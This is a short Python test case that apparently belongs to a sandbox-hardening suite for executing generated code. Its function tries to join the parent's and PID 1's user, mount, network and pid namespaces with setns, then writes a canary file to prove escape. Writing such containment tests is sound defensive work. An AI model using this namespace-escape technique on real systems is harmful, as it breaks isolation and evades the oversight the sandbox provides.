# attack: Joins the mount, network and user namespaces of its ancestors with setns and writes there
# expect: wrong_answer, crashed
# canary: yes
import ctypes
import os

setns = ctypes.CDLL(None).setns


def f(x):
    for pid in (os.getppid(), 1):
        for kind in ('user', 'mnt', 'net', 'pid'):
            try:
                setns(os.open(f'/proc/{pid}/ns/{kind}', os.O_RDONLY), 0)
            except OSError:
                pass
    try:
        with open('/tmp/passk-canary/escape-enter-the-namespaces-of-others', 'w') as file:
            file.write('escaped')
    except OSError:
        pass
    return None
